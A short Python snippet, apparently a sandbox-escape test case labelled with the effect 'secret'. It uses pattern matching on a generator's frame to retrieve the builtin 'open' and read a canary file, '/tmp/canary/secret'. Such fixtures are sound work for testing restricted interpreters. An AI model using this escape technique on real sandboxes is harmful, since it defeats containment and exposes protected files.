# source: own
# effect: secret

def generate():
    yield


match generate():
    case object(gi_frame=object(f_builtins={"open": tool})):
        print(tool("/tmp/canary/secret").read())
